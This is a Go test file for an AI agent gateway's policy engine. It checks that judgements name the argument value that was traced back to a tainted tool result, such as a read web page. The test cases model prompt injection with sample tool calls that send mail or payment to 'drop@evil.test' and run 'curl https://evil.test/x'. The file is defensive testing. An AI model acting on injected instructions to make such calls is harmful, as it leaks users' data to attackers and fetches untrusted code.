package policy_test

import (
	"testing"

	"github.com/gatehouse-gateway/gatehouse"
	"github.com/gatehouse-gateway/gatehouse/internal/policy"
)

func TestAJudgementNamesTheValueThatItIsFor(t *testing.T) {
	page := policy.Origin{Source: policy.ToolResult, Tool: "read_page", Tainted: true}
	contacts := policy.Origin{Source: policy.ToolResult, Tool: "contacts"}
	tests := []struct {
		name  string
		tools policy.Tools
		call  policy.Call
		rule  string
		want  policy.Blame
	}{
		{"provenance", policy.Tools{Provenance: gatehouse.Flag}, policy.Call{Tool: "send_message", Args: `{"to":["a@example.com","drop@evil.test"]}`},
			"provenance", policy.Blame{Argument: "args.to[1]", Value: "drop@evil.test", Origin: page}},
		{"provenance before a built-in flag", policy.Tools{Provenance: gatehouse.Flag}, policy.Call{Tool: "send_email", Args: `{"to":"drop@evil.test"}`},
			"provenance", policy.Blame{Argument: "args.to", Value: "drop@evil.test", Origin: page}},
		{"no provenance, a built-in flag", policy.Tools{Provenance: gatehouse.Flag}, policy.Call{Tool: "send_email", Args: `{"to":"a@example.com"}`},
			"built-in flag send_email", policy.Blame{}},
		{"a rule that blocks before provenance", policy.Tools{Provenance: gatehouse.Flag, Rules: []policy.Rule{{Tool: "pay", Verdict: gatehouse.Block}}},
			policy.Call{Tool: "pay", Args: `{"to":"drop@evil.test"}`}, "tools.rules[0]", policy.Blame{}},
		{"freeform", policy.Tools{Provenance: gatehouse.Flag}, policy.Call{Tool: "run_command", Freeform: true, Args: "curl https://evil.test/x"},
			"provenance", policy.Blame{Argument: "args.input", Value: "https://evil.test/x", Origin: page}},
		{"a condition", policy.Tools{Rules: []policy.Rule{{Tool: "x", Verdict: gatehouse.Flag, When: `origin(args.v) == "tool_result"`}}},
			policy.Call{Tool: "x", Args: `{"v":{"w":["mine","contact 1"]}}`}, "tools.rules[0]", policy.Blame{Argument: "args.v.w[1]", Value: "contact 1", Origin: contacts}},
		{"a condition on a list: the tainted value", policy.Tools{Rules: []policy.Rule{{Tool: "x", Verdict: gatehouse.Block, When: `args.exists(k, origin(args[k]) == "tool_result") && origin(args) == "tool_result"`}}},
			policy.Call{Tool: "x", Args: `{"v":["contact","evil"]}`}, "tools.rules[0]", policy.Blame{Argument: "args.v[1]", Value: "evil", Origin: page}},
		{"a number", policy.Tools{Rules: []policy.Rule{{Tool: "x", Verdict: gatehouse.Flag, When: `origin(args.n) == "tool_result"`}}},
			policy.Call{Tool: "x", Args: `{"m":1,"n":6.66e2}`}, "tools.rules[0]", policy.Blame{Argument: "args.n", Value: "666", Origin: page}},
		{"a value that is made of arguments", policy.Tools{Rules: []policy.Rule{{Tool: "x", Verdict: gatehouse.Flag, When: `origin(args.a + args.b) == "tool_result"`}}},
			policy.Call{Tool: "x", Args: `{"a":"ev","b":"il"}`}, "tools.rules[0]", policy.Blame{Value: "evil", Origin: page}},
		{"a condition that asked and did not hold", policy.Tools{Rules: []policy.Rule{{Tool: "x", Verdict: gatehouse.Flag, When: `origin(args.v) == "user"`}, {Tool: "x", Verdict: gatehouse.Flag}}},
			policy.Call{Tool: "x", Args: `{"v":"evil"}`}, "tools.rules[1]", policy.Blame{}},
	}
	for _, test := range tests {
		test.tools.Rules = append(test.tools.Rules, policy.Rule{Tool: "other", Verdict: gatehouse.Flag})
		test.call.Origin = injected
		j := compile(t, test.tools).Judge(test.call)
		if j.Rule != test.rule || j.Blame != test.want {
			t.Errorf("%s: rule %s, %+v; want %s, %+v", test.name, j.Rule, j.Blame, test.rule, test.want)
		}
	}
}
